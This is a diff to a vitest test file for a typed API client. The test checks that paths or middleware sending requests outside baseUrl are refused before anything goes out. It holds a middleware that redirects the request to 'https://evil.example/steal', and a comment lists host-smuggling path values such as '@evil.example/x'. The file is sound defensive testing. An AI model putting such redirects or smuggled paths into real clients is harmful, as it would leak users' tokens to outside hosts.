@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { Client } from "openapi-fetch";
 import { createClient, createPathClient, MACHINES } from "./fixtures/client.js";
 import { json, recordingFetch, sendJson, startServer } from "./helpers.js";
+import { useMiddleware } from "../src/middleware.js";
 
 // Issue #10: the typed client appends the path it is given to baseUrl as a string, so a path
 // that does not start with "/" can change the port or host (":8080/x", "@evil.example/x",
@@ -49,7 +50,7 @@ describe("a path that would leave baseUrl is refused before anything is sent", (
   it("a middleware that points the request elsewhere is refused the same way", async () => {
     const { fetch, requests } = recordingFetch(() => json(MACHINES));
     const gh = createClient({ fetch, token: TOKEN });
-    gh.use({ onRequest: ({ request }) => new Request("https://evil.example/steal", request) });
+    useMiddleware(gh, { onRequest: ({ request }) => new Request("https://evil.example/steal", request) });
     await expect(gh.codespaceMachinesForAuthenticatedUser({ codespace_name: "cs" })).rejects.toThrow(/outside baseUrl/);
     expect(requests).toHaveLength(0);
   });
